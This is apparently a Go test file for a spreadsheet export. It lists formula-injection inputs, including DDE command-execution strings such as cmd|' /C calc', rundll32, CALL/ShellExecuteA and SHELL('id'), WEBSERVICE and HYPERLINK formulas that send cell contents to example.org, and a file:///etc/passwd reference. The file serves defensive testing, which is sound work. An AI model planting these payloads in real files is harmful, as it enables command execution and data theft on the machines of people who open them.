package export_test

import (
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"testing"
)

// A group is texts that are put into cells for one reason.
type group struct {
	reason string
	texts  []string
}

// formulas are texts that some spreadsheet has run as it opened a file, or
// might be thought to run.
var formulas = []group{
	{"arithmetic", []string{
		"=1", "=1+1", "=-1", "=+1", "==1", "=(1)", "=1%", "=1e5", "=1=1", "=\"a\"&\"b\"", "=", "==", "=1+", "=)", "= 1 + 1",
		"=0x10", "=1/0", "=2^10", "=TRUE", "=PI()", "=NOW()", "=RAND()", "=A1", "=$A$1", "=A1:B2", "=SUM(A:A)", "=Sheet1!A1",
	}},
	{"the other signs", []string{
		"+1+1", "+A1", "+SUM(1,1)", "+", "++1", "+-1", "+(1)", "-1+1", "-A1", "-SUM(1,1)", "-", "--1", "-+1", "-(1)", "@A1",
		"@SUM(1,1)", "@", "@@SUM(1,1)", "@-1", "@'a'", "+=1", "-=1", "@=1", "-\"a\"", "+\"a\"", "-1", "+1", "-1.5", "+1e5", "-1%",
	}},
	{"links and requests", []string{
		`=HYPERLINK("http://example.org/?"&A2,"free")`, `=HYPERLINK("http://example.org","=1")`, `=WEBSERVICE("http://example.org/"&A2)`,
		`=IMPORTXML("http://example.org","//a")`, `=IMPORTDATA("http://example.org/x.csv")`, `=IMPORTRANGE("key","A1:B2")`,
		`=IMPORTHTML("http://example.org","table",1)`, `=IMPORTFEED("http://example.org")`, `=IMAGE("http://example.org/x.png")`,
		`=FILTERXML(WEBSERVICE("http://example.org"),"//a")`, `=ENCODEURL(A1)`, `+HYPERLINK("http://example.org")`,
		`@HYPERLINK("http://example.org")`, `-HYPERLINK("http://example.org")`, `='file:///etc/passwd'#$passwd.A1`,
		`='\\example.org\share\[book.xls]Sheet1'!A1`, `="x"&WEBSERVICE("http://example.org")`,
	}},
	{"commands over DDE", []string{
		`=cmd|' /C calc'!A0`, `=cmd|'/C calc.exe'!Z0`, `+cmd|' /C calc'!A0`, `-cmd|' /C calc'!A0`, `@SUM(cmd|' /C calc'!A0)`,
		`=2+5+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!E1`, `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
		`=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`, `=10+20+cmd|' /C calc'!A0`,
		`=cmd|'/k ipconfig'!A0`, `%0A=cmd|' /C calc'!A0`, `=CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","calc",0,0,5)`,
		`=EXEC("calc")`, `=REGISTER.ID("kernel32","Sleep")`, `=SHELL("id")`,
	}},
	{"names, arrays and other notations", []string{
		"{=1+1}", "{=SUM(A1:A2)}", "={1,2;3,4}", "={1;2}", "=R1C1", "=R[-1]C[-1]", "R1C1", "=SUM(R1C1:R2C2)", "=[@total]", "=Table1[total]",
		"=LET(x,1,x)", "=LAMBDA(x,x)(1)", "=_xlfn.CONCAT(1)", "=of:1+1", "of:=1+1", "msoxl:=1+1", "=INDIRECT(\"A1\")", "=OFFSET(A1,0,0)",
		"=EVALUATE(\"1+1\")", "=CHAR(61)&\"1\"", "=@A1", "=A1#", "=-+-+1", "=SUMME(1;1)", "=SOMME(1;1)", "=WENN(1=1;\"a\";\"b\")", "=sum(1,1)",
		"=1,5+1", "=1;2", "=1.000,5", "=π", "=A1 B1", "=#REF!", "=not a formula", "=<a>", "=&amp;1",
	}},
	{"quotes and apostrophes", []string{
		`"=1+1"`, `""=1+1""`, `"`, `""`, `'=1+1`, `''=1+1`, `'''=1+1`, `'`, `''`, `'"=1+1"`, `"'=1+1`, `' =1+1`, "'\t=1+1", "'+1+1", "'-1+1",
		"'@SUM(1,1)", `"=1+1`, `=1+1"`, `=1+1'`, "’=1+1", "‘=1+1", "`=1+1", "´=1+1", "“=1+1”", "«=1+1»", `\"=1+1`, `\=1+1`, `'plain`,
		`="=1"`, `=""`, `=T("=1+1")`, `','=1+1`, `","=1+1`, `",=1+1,"`,
	}},
	{"separators: a cell that would be two", []string{
		"x,=1+1", "x;=1+1", "x\t=1+1", "x|=1+1", ",=1+1", ";=1+1", "|=1+1", ":=1+1", "x,\"=1+1\"", "x\",=1+1,\"", "x\";=1+1;\"", "\",\"", "\";\"",
		"a;=1+1;b;=1+1;c", "a\tb\t=1+1\tc", "sep=;", "sep=,", "ID;PWXL;N;E", "ID", "C;Y1;X1;E1+1", "1,2", "1;2", ";;;;;;;;=1+1", ",,,,=1+1",
	}},
	{"line ends: a line that would be two", []string{
		"x\n=1+1", "x\r=1+1", "x\r\n=1+1", "\n", "\r", "\r\n", "\n\n=1+1", "\r\r=1+1", "x\n\"=1+1\"", "x\"\n=1+1,\"", "x\v=1+1", "x\f=1+1",
		"x\u0085=1+1", "x\u2028=1+1", "x\u2029=1+1", "\n,=1+1", "\n;=1+1", "=1+\n1", "=1+\r\n1", "=\"a\r\nb\"",
	}},
	{"signs that look alike", []string{
		"＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1,1)", "−1+1", "‐1+1", "–1+1", "—1+1", "⁺1+1", "⁻1", "₌1+1",
		"⁼1+1", "᐀1+1", "゠1+1", "≠1+1", "≠1+1", "÷1", "×1", "±1", "∓1", "＝cmd|' /C calc'!A0", "%3D1+1", "&#61;1+1", "&equals;1+1", "=\u03041",
	}},
	{"what looks like a number or a date", []string{
		"1e5", "1E+5", "5%", "50 %", "1/2", "1-2", "1-2-3", "2024-05-06", "6.5.2024", "5/6/2024", "12:30", "MAR1", "SEPT2", "1.5", "1,5", "1.000,5",
		"1'000", "$1.00", "€5", "(5)", "0x10", "007", "1e400", "NaN", "Infinity", "TRUE", "FALSE", "#REF!", "#N/A", "#DIV/0!", "∞", "½", "٣", "1_000",
	}},
}

// prefixes are what stands in front of a sign, by what it is. The first two
// groups are those of X3.
var prefixes = []group{
	{"white space", []string{
		" ", "  ", "\n", "\v", "\f", "\u0085", "\u00a0", "\u1680", "\u2000", "\u2003", "\u2009", "\u200a", "\u2028", "\u2029", "\u202f",
		"\u205f", "\u3000", " \u00a0\n", "'", "''", "' ", "'\u3000",
	}},
	{"a tab or a CR", []string{"\t", "\t\t", "\r", "\r\n", " \t", "\u00a0\t", "\n\r", "'\t", "'\r"}},
	{"what cannot be seen", []string{
		"\ufeff", "\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\u061c", "\u180e", "\u200e", "\u202e", "\u2066", "\u034f", "\u3164",
		"\ufe0f", "\U000e0001", "\U000e0020", "\u2800", "\ufffc", "\ufffd", "\ue000", "\ufffe", "\uffff",
	}},
	{"control characters", []string{"\x00", "\x00\x00", "\x01", "\x07", "\b", "\x1a", "\x1b[31m", "\x1c", "\x1f", "\x7f", "\u0080", "\u009f"}},
	{"bytes that are not UTF-8", []string{"\xff", "\xfe\xff", "\xc0\xbd", "\xe2\x80", "\xed\xa0\x80", "\x80", "\xa0"}},
}

// ownPayloads are the groups above, and every prefix before every sign.
func ownPayloads() []string {
	var all []string
	for _, g := range formulas {
		all = append(all, g.texts...)
	}
	for _, g := range prefixes {
		for _, p := range g.texts {
			all = append(all, p, p+"=1+1", p+"+1+1", p+"-1+1", p+"@SUM(1,1)")
		}
	}
	return distinct(all)
}

// naughtyStrings are the big list of naughty strings, nil where it is not at hand.
func naughtyStrings(t *testing.T) []string {
	b, err := os.ReadFile(filepath.Join("..", "..", "shared", "data", "blns", "blns.json"))
	if errors.Is(err, fs.ErrNotExist) {
		t.Log("the big list of naughty strings is not beside the checkout: without it")
		return nil
	}
	var list []string
	if err == nil {
		err = json.Unmarshal(b, &list)
	}
	if err != nil {
		t.Fatal(err)
	}
	return list
}

// distinct leaves out what came before.
func distinct(all []string) []string {
	seen := map[string]bool{}
	var once []string
	for _, s := range all {
		if !seen[s] {
			seen[s] = true
			once = append(once, s)
		}
	}
	return once
}
